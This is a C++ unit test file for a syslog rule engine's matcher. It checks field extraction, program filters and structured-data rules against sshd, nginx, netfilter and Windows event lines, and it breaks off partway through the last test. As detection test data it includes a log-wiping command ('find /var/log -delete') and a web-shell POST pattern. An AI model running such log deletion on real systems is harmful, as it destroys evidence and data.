#include "matchers/rule_set.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <re2/re2.h>

#include <algorithm>
#include <thread>

namespace konseki::matchers {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using Field = std::pair<std::string, std::string>;

Rule MakeRule(std::string id, std::vector<std::string> match, std::vector<std::string> extract = {},
              std::string program = "") {
  Rule r;
  r.id = std::move(id);
  r.sign = "ssh.auth_failure";
  r.title = "title of " + r.id;
  r.severity = Severity::kHigh;
  r.description = "d";
  r.program = std::move(program);
  r.match = std::move(match);
  r.extract = std::move(extract);
  r.file = "test.yaml";
  r.line = 7;
  for (size_t i = 0; i < r.match.size(); ++i) r.match_lines.push_back(10 + static_cast<int>(i));
  return r;
}

// A message filled by hand, as the parser would for an RFC 3164 line.
Message Msg(std::string_view app, std::string_view text) {
  Message m;
  m.raw = text;
  m.format = MessageFormat::kRfc3164;
  m.app_name = app;
  m.msg = text;
  return m;
}

std::shared_ptr<const RuleSet> MustCompile(std::vector<Rule> rules) {
  auto set = RuleSet::Compile(std::move(rules));
  EXPECT_TRUE(set.ok()) << set.status().ToString();
  return set.ok() ? *set : nullptr;
}

std::vector<std::string> HitIds(const std::vector<RuleHit>& hits) {
  std::vector<std::string> ids;
  for (const RuleHit& h : hits) ids.push_back(h.rule->id);
  return ids;
}

TEST(RuleSetTest, ExtractsNamedGroupsInGroupOrderOnlyForRulesThatHit) {
  auto set = MustCompile({
      MakeRule("a", {"Failed password for "},
               {R"(for (?P<user>\S+) from (?P<src_ip>\S+)(?: port (?P<port>\d+))?)"}),
      MakeRule("b", {"Accepted "}, {R"((?P<user>\S+))"}),
  });
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  set->Match(Msg("sshd", "Failed password for root from 192.0.2.1 port 22 ssh2"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_EQ(hits[0].rule->id, "a");
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}, Field{"src_ip", "192.0.2.1"},
                                          Field{"port", "22"}));

  // An optional group that did not take part yields no field.
  set->Match(Msg("sshd", "Failed password for root from 192.0.2.1"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}, Field{"src_ip", "192.0.2.1"}));

  set->Match(Msg("sshd", "Server listening on 0.0.0.0 port 22."), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
}

// dropbear's "from ::ffff:203.0.113.74:60495" and sshd's "from 203.0.113.74"
// are one source (evasion15: two sources, no burst-then-success): an
// address field's IPv4-mapped form is stored as the IPv4 address.
TEST(RuleSetTest, AnAddressFieldsIpv4MappedFormIsTheIpv4Address) {
  auto set = MustCompile({MakeRule(
      "d", {"attempt for "},
      {R"(attempt for '(?P<user>[^']*)' from (?P<src_ip>\S+):(?P<port>\d+) via (?P<addr>\S+))"})});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  set->Match(Msg("dropbear",
                 "Bad password attempt for 'root' from ::ffff:203.0.113.74:60495 via "
                 "::ffff:192.0.2.1"),
             **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  // Only fields named ip or *_ip: addr is left as written.
  EXPECT_THAT(hits[0].fields,
              ElementsAre(Field{"user", "root"}, Field{"src_ip", "203.0.113.74"},
                          Field{"port", "60495"}, Field{"addr", "::ffff:192.0.2.1"}));
  EXPECT_EQ(UnmappedIpv4("ip", "::FFFF:10.0.0.1"), "10.0.0.1");
  EXPECT_EQ(UnmappedIpv4("dst_ip", "::ffff:10.0.0.1"), "10.0.0.1");
  for (const char* kept : {"::ffff:a.b.c.d", "::ffff:10.0.0", "::1", "2001:db8::ffff:10.0.0.1",
                           "::ffff:", "10.0.0.1", "::ffff:10.0.0.1x"}) {
    EXPECT_EQ(UnmappedIpv4("src_ip", kept), kept);
  }
  EXPECT_EQ(UnmappedIpv4("vip_name", "::ffff:10.0.0.1"), "::ffff:10.0.0.1");
}

TEST(RuleSetTest, CaselessByDefaultCaseSensitiveOnRequest) {
  Rule sensitive = MakeRule("cs", {"RELOAD"}, {"(?P<word>RELOAD)"});
  sensitive.case_sensitive = true;
  auto set = MustCompile({MakeRule("ci", {"segfault at"}, {"(?P<what>SEGFAULT) AT"}), sensitive});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("kernel", "a[1]: SegFault At 0"), **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("ci"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"what", "SegFault"}));
  set->Match(Msg("cron", "(root) reload (x)"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
  set->Match(Msg("cron", "(root) RELOAD (x)"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("cs"));
}

TEST(RuleSetTest, ProgramFilterIsAnchoredAndCaseless) {
  auto set = MustCompile({MakeRule("p", {"Invalid user"}, {}, "sshd|sshd-session")});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  for (const char* app : {"sshd", "SSHD", "sshd-session"}) {
    set->Match(Msg(app, "Invalid user x from 192.0.2.1"), **scratch, &hits);
    EXPECT_EQ(hits.size(), 1u) << app;
  }
  for (const char* app : {"sshd2", "xsshd", "sshd-sessionx", "", "cron"}) {
    set->Match(Msg(app, "Invalid user x from 192.0.2.1"), **scratch, &hits);
    EXPECT_TRUE(hits.empty()) << app;
  }
}

// A daemon that logs under its path ("/usr/sbin/sshd[1]:", openlog with
// argv[0]) is the program its last component names.
TEST(RuleSetTest, ProgramFilterTakesTheLastComponentOfAPath) {
  auto set = MustCompile({MakeRule("p", {"Invalid user"}, {}, "sshd|sshd-session"),
                          MakeRule("re", {"Invalid user"}, {}, R"(ssh[d]|/opt/x)")});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  for (const char* app : {"/usr/sbin/sshd", "/USR/SBIN/SSHD", "./sshd"}) {
    set->Match(Msg(app, "Invalid user x from 192.0.2.1"), **scratch, &hits);
    EXPECT_THAT(HitIds(hits), ElementsAre("p", "re")) << app;
  }
  set->Match(Msg("/usr/lib/openssh/sshd-session", "Invalid user x from 192.0.2.1"), **scratch,
             &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("p"));
  set->Match(Msg("/opt/x", "Invalid user x from 192.0.2.1"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("re"));  // the whole name still counts first
  for (const char* app : {"/usr/sbin/sshd2", "/usr/sbin/", "/", "sshd/x", "/sshd/x"}) {
    set->Match(Msg(app, "Invalid user x from 192.0.2.1"), **scratch, &hits);
    EXPECT_TRUE(hits.empty()) << app;
  }
}

// pid: a line with a PROCID must carry the rule's; one without passes.
TEST(RuleSetTest, PidHoldsLinesThatCarryAProcid) {
  Rule pid1 = MakeRule("p", {"Reached target Shutdown"}, {}, "systemd");
  pid1.pid = "1";
  auto set = MustCompile({pid1});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  auto match = [&](std::string_view procid) {
    Message m = Msg("systemd", "Reached target Shutdown.");
    m.procid = procid;
    set->Match(m, **scratch, &hits);
    return HitIds(hits);
  };
  EXPECT_THAT(match("1"), ElementsAre("p"));
  EXPECT_THAT(match(""), ElementsAre("p"));
  EXPECT_THAT(match("6181"), IsEmpty());
  EXPECT_THAT(match("11"), IsEmpty());
}

// program_except: never these programs, by their whole name or, for a
// program logging under its path, its last component; without case.
TEST(RuleSetTest, ProgramExceptLeavesOutTheNamedProgramsAlsoByTheirPath) {
  Rule any_but_cron = MakeRule("e", {"find /var/log"}, {}, ".+");
  any_but_cron.program_except = {"cron", "logrotate"};
  Rule only_except = MakeRule("o", {"find /var/log"});
  only_except.program_except = {"cron"};
  auto set = MustCompile({any_but_cron, only_except});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  for (const char* app : {"cron", "CRON", "/usr/sbin/cron", "logrotate"}) {
    set->Match(Msg(app, "find /var/log -delete"), **scratch, &hits);
    EXPECT_THAT(HitIds(hits), ::testing::Not(::testing::Contains("e"))) << app;
  }
  for (const char* app : {"bash", "/bin/bash", "crond2", "snoopy"}) {
    set->Match(Msg(app, "find /var/log -delete"), **scratch, &hits);
    EXPECT_THAT(HitIds(hits), ElementsAre("e", "o")) << app;
  }
  // `program: .+` still wants a program; program_except alone does not.
  set->Match(Msg("", "find /var/log -delete"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("o"));
  set->Match(Msg("/usr/sbin/cron", "find /var/log -delete"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
}

TEST(RuleSetTest, ProgramFilterWithRegexSyntaxOrEscapes) {
  auto set =
      MustCompile({MakeRule("re", {"Relay access denied"}, {}, R"(postfix(?:/[\w.-]+)*/smtpd)"),
                   MakeRule("esc", {"authentication failure"}, {}, R"(sshd\(pam_unix\))")});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  for (const char* app : {"postfix/smtpd", "postfix/submission/smtpd", "Postfix/SMTPD"}) {
    set->Match(Msg(app, "Relay access denied"), **scratch, &hits);
    EXPECT_THAT(HitIds(hits), ElementsAre("re")) << app;
  }
  for (const char* app : {"postfix/smtp", "postfix/smtpd2", "xpostfix/smtpd", "postfix"}) {
    set->Match(Msg(app, "Relay access denied"), **scratch, &hits);
    EXPECT_TRUE(hits.empty()) << app;
  }
  set->Match(Msg("sshd(pam_unix)", "authentication failure;"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("esc"));
  set->Match(Msg("sshd(pam_unixx)", "authentication failure;"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
}

TEST(RuleSetTest, ReportsDatabaseAndScratchBytes) {
  auto set = MustCompile({MakeRule("a", {"boom [0-9]+ times"})});
  EXPECT_GT(set->database_bytes(), 0u);
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  EXPECT_GT((*scratch)->bytes(), 0u);
  auto empty = MustCompile({});
  EXPECT_EQ(empty->database_bytes(), 0u);
  EXPECT_EQ((*empty->NewScratch())->bytes(), 0u);
}

TEST(RuleSetTest, SeveralExpressionsOfOneRuleGiveOneHitAndRulesComeInOrder) {
  auto set = MustCompile({
      MakeRule("first", {"alpha", "beta", "gamma"}),
      MakeRule("second", {"beta"}),
  });
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("x", "gamma beta alpha"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("first", "second"));
}

TEST(RuleSetTest, FirstMatchingExtractWinsAndNoExtractMatchStillHits) {
  auto set = MustCompile({MakeRule(
      "r", {"refused connect from"},
      {R"(from (?P<host>\S+) \((?P<src_ip>[^)]+)\))", R"(from (?P<src_ip>\d+\.\d+\.\d+\.\d+)$)"})});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("sshd", "refused connect from h.example (192.0.2.5)"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields,
              ElementsAre(Field{"host", "h.example"}, Field{"src_ip", "192.0.2.5"}));
  set->Match(Msg("sshd", "refused connect from 192.0.2.6"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"src_ip", "192.0.2.6"}));
  set->Match(Msg("sshd", "refused connect from ???"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_TRUE(hits[0].fields.empty());
}

TEST(RuleSetTest, ExtractAllAddsEachExpressionsFieldsAndRefusesAGroupTwice) {
  Rule all = MakeRule(
      "nf", {"IN=\\S* OUT="},
      {R"(\bIN=(?P<in>\S*) OUT=(?P<out>\S*) )", R"(\bSRC=(?P<src_ip>\S+) DST=(?P<dst_ip>\S+) )",
       R"(\bPROTO=(?P<proto>\S+)(?: SPT=(?P<src_port>\d+) DPT=(?P<dst_port>\d+))?)"});
  all.extract_all = true;
  Rule first = all;
  first.id = "first";
  first.extract_all = false;
  auto set = MustCompile({all, first});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("kernel",
                 "DROP IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5 LEN=60 PROTO=TCP SPT=4000 DPT=22 "
                 "WINDOW=0"),
             **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("nf", "first"));
  EXPECT_THAT(hits[0].fields,
              ElementsAre(Field{"in", "eth0"}, Field{"out", ""}, Field{"src_ip", "198.51.100.7"},
                          Field{"dst_ip", "10.0.0.5"}, Field{"proto", "TCP"},
                          Field{"src_port", "4000"}, Field{"dst_port", "22"}));
  EXPECT_THAT(hits[1].fields, ElementsAre(Field{"in", "eth0"}, Field{"out", ""}));
  // An expression that does not match adds nothing; the others still do.
  set->Match(Msg("kernel", "DROP IN=eth0 OUT= MAC=00:11 PROTO=2"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_THAT(hits[0].fields,
              ElementsAre(Field{"in", "eth0"}, Field{"out", ""}, Field{"proto", "2"}));

  Rule twice = MakeRule("t", {"x"}, {R"(a=(?P<user>\S+))", R"(b=(?P<user>\S+))"});
  twice.extract_all = true;
  auto refused = RuleSet::Compile({twice});
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(refused.status().message(),
              HasSubstr("rule t: extract_all: the group \"user\" is in two extract expressions"));
}

// RE2 objects are compiled on first use (issue 17, memory): a rule that
// never hits costs none; a bad expression is still refused at Compile.
TEST(RuleSetTest, ASimpleExtractBuildsNoRe2) {
  Rule ext = MakeRule("ext", {"Failed password for "}, {R"(for (?P<user>\S+) from)"});
  auto set = MustCompile({ext});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("sshd", "Failed password for root from 192.0.2.1 port 22 ssh2"), **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("ext"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}));
  EXPECT_EQ(set->re2_built(), 0u);  // SimpleRegex extracted it
}

TEST(RuleSetTest, Re2ExpressionsAreCompiledWhenALineFirstNeedsThem) {
  // A repeated group: RE2's, not SimpleRegex's (which would build no RE2).
  Rule ext = MakeRule("ext", {"Failed password for "}, {R"(for (?P<user>\S+) from(?:\s+\S+)*)"});
  Rule confirmed = MakeRule("conf", {R"(^session closed for \S+$)"});
  confirmed.prefilter = {"session closed for "};
  Rule prog = MakeRule("prog", {"Invalid user"}, {}, R"(ssh[d]|/opt/x)");
  Rule idle = MakeRule("idle", {"never seen"}, {R"(seen (?P<what>\S+))"});
  auto set = MustCompile({ext, confirmed, prog, idle});
  EXPECT_EQ(set->re2_expressions(), 4u);
  EXPECT_EQ(set->re2_built(), 0u);
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("sshd", "Failed password for root from 192.0.2.1 port 22 ssh2"), **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("ext"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}));
  EXPECT_EQ(set->re2_built(), 1u);
  set->Match(Msg("sshd", "session closed for alice"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("conf"));
  set->Match(Msg("sshd", "Invalid user bob from 192.0.2.1"), **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("prog"));
  EXPECT_EQ(set->re2_built(), 3u);  // "idle" never hit

  // Workers that hit a rule's first line at once share one compiled RE2.
  auto fresh = MustCompile({ext});
  std::vector<std::thread> workers;
  std::vector<std::vector<RuleHit>> got(8);
  for (size_t t = 0; t < got.size(); ++t) {
    workers.emplace_back([&, t] {
      auto s = fresh->NewScratch();
      fresh->Match(Msg("sshd", "Failed password for u" + std::to_string(t) + " from 192.0.2.1"),
                   **s, &got[t]);
    });
  }
  for (std::thread& w : workers) w.join();
  for (size_t t = 0; t < got.size(); ++t) {
    ASSERT_EQ(got[t].size(), 1u);
    EXPECT_THAT(got[t][0].fields, ElementsAre(Field{"user", "u" + std::to_string(t)}));
  }
  EXPECT_EQ(fresh->re2_built(), 1u);

  Rule bad = MakeRule("bad", {"x"}, {R"((?P<user>\S+)"});
  auto refused = RuleSet::Compile({bad});
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(refused.status().message(), HasSubstr("rule bad: extract: RE2: missing )"));
  Rule bad_program = MakeRule("badp", {"x"}, {}, "ssh(d");
  refused = RuleSet::Compile({bad_program});
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(refused.status().message(), HasSubstr("rule badp: program: RE2: missing )"));
}

// The fields of RE2's own unanchored leftmost-first match, the reference
// for RuleSet's extraction (which runs RE2 anchored where a match can start).
std::vector<Field> Re2Fields(const std::string& pattern, bool case_sensitive,
                             std::string_view text) {
  RE2::Options o;
  o.set_case_sensitive(case_sensitive);
  o.set_encoding(RE2::Options::EncodingLatin1);
  RE2 re(pattern, o);
  EXPECT_TRUE(re.ok()) << pattern;
  std::vector<re2::StringPiece> groups(re.NumberOfCapturingGroups() + 1);
  std::vector<Field> fields;
  if (!re.Match(re2::StringPiece(text.data(), text.size()), 0, text.size(), RE2::UNANCHORED,
                groups.data(), static_cast<int>(groups.size()))) {
    return fields;
  }
  std::vector<std::pair<int, std::string>> named;
  for (const auto& [name, index] : re.NamedCapturingGroups()) named.emplace_back(index, name);
  std::sort(named.begin(), named.end());
  for (const auto& [index, name] : named) {
    if (groups[index].data() != nullptr) fields.emplace_back(name, std::string(groups[index]));
  }
  return fields;
}

TEST(RuleSetTest, ExtractionStartingAtLiteralsEqualsRe2UnanchoredSearch) {
  // Extracts whose matches begin with a literal are run anchored at each
  // occurrence; every case here must give RE2's unanchored result.
  struct Case {
    std::string extract;
    bool case_sensitive;
    std::vector<std::string> lines;
  };
  std::string many = "LINE";
  for (int i = 0; i < 20; ++i) many += " from x";
  many += " from 1.2 from 3.4";
  const std::vector<Case> cases = {
      // the first occurrence of the literal does not match, a later one does
      {R"(from (?P<ip>\d+\.\d+))", false, {"LINE from host from 1.2", "LINE from x", many}},
      // caseless rule: the literal is found in any case
      {R"(rhost=(?P<h>\S*)(?:\s+user=(?P<u>\S+))?)",
       false,
       {"LINE RHOST=abc USER=r", "LINE rhost= user=x", "LINE rhost"}},
      // a leading \b is checked by RE2 with the bytes before the literal
      {R"(\bIN=(?P<in>\S*) OUT=)", false, {"LINE XIN=a OUT= IN=b OUT=", "LINE XIN=a OUT="}},
      // a quantifier binds to the literal's last character only
      {R"(tally2?x (?P<n>\d+))", false, {"LINE tallyx 5", "LINE tally2x 6", "LINE tally22x 7"}},
      // alternatives in a leading group: the leftmost of them wins
      {R"((?:foo|bar) (?P<v>\w+))", false, {"LINE bar baz foo qux", "LINE foobar x"}},
      // an alternation at the top level is searched as before
      {R"(a(?P<x>1)|b(?P<y>2))", false, {"LINE b2 a1", "LINE a1"}},
      // case-sensitive rule: only the literal's own case starts a match
      {R"(Foo=(?P<v>\w+))", true, {"LINE foo=1 Foo=2", "LINE FOO=3"}},
      // every capital, at every alignment, next to bytes the lowering must keep
      {R"(abcdefghijklmnopqrstuvwxyz(?P<v>\d))",
       false,
       {"LINE @[`{ ABCDEFGHIJKLMNOPQRSTUVWXYZ7",
        "LINE \xc1\xda"
        "ABCDEFGHIJKLMNOPQRSTUVWXYZ8",
        "LINE abcdefghijklmnopqrstuvwxyz9", "LINE xABCDEFGHIJKLMNOPQRSTUVWXYZ6"}},
      // leftmost-first among matches that start at the same place
      {R"(ab(?P<g>c|cd))", false, {"LINE abcd"}},
      // a literal at the very end of the line, and a lazy tail
      {R"(user (?P<u>.*?) ?from (?P<ip>\S+))",
       false,
       {"LINE user a b from c", "LINE user", "LINE user x user y from z"}},
  };
  for (const Case& c : cases) {
    Rule rule = MakeRule("x", {"LINE"}, {c.extract});
    rule.case_sensitive = c.case_sensitive;
    auto set = MustCompile({rule});
    auto scratch = set->NewScratch();
    std::vector<RuleHit> hits;
    for (const std::string& line : c.lines) {
      set->Match(Msg("p", line), **scratch, &hits);
      ASSERT_EQ(hits.size(), 1u) << c.extract << " on " << line;
      EXPECT_EQ(hits[0].fields, Re2Fields(c.extract, c.case_sensitive, line))
          << c.extract << " on " << line;
    }
  }
}

TEST(RuleSetTest, UnparsedMessagesAreScannedWhole) {
  auto set = MustCompile({MakeRule("w", {R"(" 5[0-9]{2} )"}, {R"(" (?P<status>5\d\d) )"})});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  Message m;
  m.raw = "192.0.2.1 - - [08/Jun/2020:06:49:01 +0000] \"GET / HTTP/1.0\" 502 803";
  m.format = MessageFormat::kUnparsed;
  set->Match(m, **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"status", "502"}));
}

TEST(RuleSetTest, InvalidUtf8DoesNotStopExtraction) {
  auto set = MustCompile({MakeRule("u", {"Invalid user "}, {R"(user (?P<user>.*?) from)"})});
  auto scratch = set->NewScratch();
  std::vector<RuleHit> hits;
  set->Match(Msg("sshd", "Invalid user a\xff\xfe b from 192.0.2.1"), **scratch, &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "a\xff\xfe b"}));
}

TEST(RuleSetTest, HyperscanErrorNamesFileLineRuleAndExpression) {
  auto set = RuleSet::Compile(
      {MakeRule("ok", {"fine"}), MakeRule("broken", {"also fine", "(unbalanced", "x"})});
  ASSERT_FALSE(set.ok());
  EXPECT_THAT(set.status().message(),
              HasSubstr("test.yaml:11: rule broken: match: Hyperscan cannot compile "
                        "\"(unbalanced\": "));
  EXPECT_THAT(set.status().message(), HasSubstr("parenthes"));
}

// An RFC 5424 message with structured data, as the parser fills it.
Message SdMsg(std::string_view app, std::string_view sd, std::string_view text) {
  Message m;
  m.raw = text;
  m.format = MessageFormat::kRfc5424;
  m.app_name = app;
  m.structured_data = sd;
  m.msg = text;
  return m;
}

Rule SdRule(std::string id, std::vector<std::string> match, std::vector<std::string> extract = {}) {
  Rule r = MakeRule(std::move(id), std::move(match), std::move(extract));
  r.text = Rule::Text::kStructuredData;
  return r;
}

constexpr std::string_view kNxlogSd =
    R"([NXLOG@14506 EventID="4625" TargetUserName="sa" LogonType="3" IpAddress="192.0.2.7"])";

TEST(RuleSetTest, StructuredDataRulesReadOnlyTheStructuredData) {
  auto set = MustCompile({
      MakeRule("text", {R"(EventID="4625")"}, {R"re(TargetUserName="(?P<user>[^"]*)")re"}),
      SdRule("sd", {R"(\bEventID="4625")"},
             {R"re(\bTargetUserName="(?P<user>[^"\\]*)".*\bIpAddress="(?P<src_ip>[^"\\]*)")re"}),
  });
  EXPECT_TRUE(set->reads_structured_data());
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;

  // The event only in the structured data: the SD rule, with its fields.
  set->Match(SdMsg("Microsoft-Windows-Security-Auditing", kNxlogSd, ""), **scratch, &hits);
  ASSERT_EQ(HitIds(hits), std::vector<std::string>{"sd"});
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "sa"}, Field{"src_ip", "192.0.2.7"}));

  // The same words in the text: the text rule only.
  set->Match(Msg("app", R"(EventID="4625" TargetUserName="root")"), **scratch, &hits);
  ASSERT_EQ(HitIds(hits), std::vector<std::string>{"text"});
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}));

  // Both: both rules, in rule order, each with the fields of its own text.
  set->Match(SdMsg("app", kNxlogSd, R"(EventID="4625" TargetUserName="root")"), **scratch, &hits);
  ASSERT_EQ(HitIds(hits), (std::vector<std::string>{"text", "sd"}));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "root"}));
  EXPECT_THAT(hits[1].fields, ElementsAre(Field{"user", "sa"}, Field{"src_ip", "192.0.2.7"}));

  // Without structured data, an SD rule never hits.
  set->Match(SdMsg("app", "", "nothing"), **scratch, &hits);
  EXPECT_THAT(hits, IsEmpty());
}

TEST(RuleSetTest, ASetOfStructuredDataRulesOnlyScansNoText) {
  Rule caseless =
      SdRule("sd", {R"(EventID="1102")"}, {R"re(\bsubjectusername="(?P<user>[^"]*)")re"});
  auto set = MustCompile({caseless});
  EXPECT_TRUE(set->reads_structured_data());
  EXPECT_GT(set->database_bytes(), 0u);
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  EXPECT_GT((*scratch)->bytes(), 0u);
  std::vector<RuleHit> hits;
  set->Match(Msg("app", R"(EventID="1102")"), **scratch, &hits);
  EXPECT_THAT(hits, IsEmpty());
  // Caseless like a text rule, start literals found in the lowered SD.
  set->Match(SdMsg("app", R"([NXLOG@14506 EventID="1102" SubjectUserName="adm"])", ""), **scratch,
             &hits);
  ASSERT_EQ(hits.size(), 1u);
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"user", "adm"}));
}

TEST(RuleSetTest, WithoutStructuredDataRulesTheSetDoesNotReadIt) {
  auto set = MustCompile({MakeRule("text", {"EventID"})});
  EXPECT_FALSE(set->reads_structured_data());
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  set->Match(SdMsg("app", kNxlogSd, ""), **scratch, &hits);
  EXPECT_THAT(hits, IsEmpty());
}

TEST(RuleSetTest, EmptyMessageRulesSkipLinesWithText) {
  Rule twin = SdRule("twin", {R"(EventID="4625")"});
  twin.empty_message = true;
  auto set = MustCompile({twin});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  for (std::string_view blank : {"", " ", " \t\r\n"}) {
    set->Match(SdMsg("app", kNxlogSd, blank), **scratch, &hits);
    EXPECT_EQ(HitIds(hits), std::vector<std::string>{"twin"}) << "text \"" << blank << "\"";
  }
  set->Match(SdMsg("app", kNxlogSd, "An account failed to log on."), **scratch, &hits);
  EXPECT_THAT(hits, IsEmpty());
}

TEST(RuleSetTest, StructuredDataRuleHyperscanErrorNamesItsLine) {
  Rule bad = SdRule("broken", {"fine", "(unbalanced"});
  auto set = RuleSet::Compile({MakeRule("ok", {"fine"}), bad});
  ASSERT_FALSE(set.ok());
  EXPECT_THAT(set.status().message(),
              HasSubstr("test.yaml:11: rule broken: match: Hyperscan cannot compile "
                        "\"(unbalanced\": "));
}

TEST(RuleSetTest, Re2ErrorsNameTheRule) {
  auto bad_extract = RuleSet::Compile({MakeRule("e", {"x"}, {"(?P<a>"})});
  ASSERT_FALSE(bad_extract.ok());
  EXPECT_THAT(bad_extract.status().message(), HasSubstr("test.yaml:7: rule e: extract: RE2: "));
  auto bad_program = RuleSet::Compile({MakeRule("p", {"x"}, {}, "sshd(")});
  ASSERT_FALSE(bad_program.ok());
  EXPECT_THAT(bad_program.status().message(), HasSubstr("test.yaml:7: rule p: program: RE2: "));
}

TEST(RuleSetTest, UnlessDropsTheRulesHitOnlyAndIsCheckedWithRe2) {
  // An access-log rule and nginx's error log quoting the request as a path.
  Rule r = MakeRule("shell", {R"("POST /[^"]*\.php[^"]* HTTP/[\d.]+" 200 )"},
                    {R"(^(?P<src_ip>\S+) )"}, "nginx");
  r.unless = R"(^\d{4}/\d\d/\d\d \d\d:\d\d:\d\d \[\w+\] \d+#\d+: |\bAH00128: )";
  r.unless_line = 30;
  auto set = MustCompile({r, MakeRule("other", {"failed \\(2: "}, {}, "nginx")});
  auto scratch = set->NewScratch();
  ASSERT_TRUE(scratch.ok());
  std::vector<RuleHit> hits;
  // The real access line: kept, with its fields.
  set->Match(
      Msg("nginx",
          R"(203.0.113.5 - - [07/Dec/2026:10:00:01 +0900] "POST /up/x.php HTTP/1.1" 200 12 "-" "curl")"),
      **scratch, &hits);
  ASSERT_THAT(HitIds(hits), ElementsAre("shell"));
  EXPECT_THAT(hits[0].fields, ElementsAre(Field{"src_ip", "203.0.113.5"}));
  // The same words inside the error log's open() path: dropped; the other
  // rule's hit on the line stays.
  set->Match(
      Msg("nginx",
          R"(2026/12/07 10:00:01 [error] 1234#1234: *56 open() "/usr/share/nginx/html/203.0.113.5 - - [07/Dec/2026:10:00:01 +0900] "POST /up/x.php HTTP/1.1" 200 12 "-" "curl"" failed (2: No such file or directory), client: 198.51.100.1)"),
      **scratch, &hits);
  EXPECT_THAT(HitIds(hits), ElementsAre("other"));
  // Caseless like the rule.
  set->Match(
      Msg("nginx",
          R"(ah00128: File does not exist: /var/www/1.2.3.4 - - [x] "POST /a.php HTTP/1.1" 200 1)"),
      **scratch, &hits);
  EXPECT_TRUE(hits.empty());
  // Not in the Hyperscan database: a line only `unless` finds hits nothing.
  set->Match(Msg("nginx", "AH00128: File does not exist: /var/www/html/x"), **scratch, &hits);
  EXPECT_TRUE(hits.empty());
  EXPECT_EQ(set->re2_expressions(), 4u);  // two programs, the extract, the unless

  Rule bad = r;
  bad.unless = "(unbalanced";
  auto refused = RuleSet::Compile({bad});
  ASSERT_FALSE(refused.ok());
  EXPECT_THAT(refused.status().message(),
              HasSubstr("test.yaml:30: rule shell: unless: RE2: missing ): (unbalanced in "
                        "\"(unbalanced\""));
}

TEST(RuleSetTest, PrefilterHitsCountOnlyWhenAMatchExpressionConfirms) {
  // Hyperscan scans for the prefilter; RE2 confirms the rule's `match`.
  Rule r = MakeRule("pre", {R"(\[[0-9]{2}/[a-z]{3}/[0-9]{4}[^\]]*\] "[^"]*" 5[0-9]{2} )"},
                    {R"((?P<status>5[0-9]{2}) )"});
  r.prefilter = {R"(" 5[0-9]{2} )"};
  r.prefilter_lines = {20};
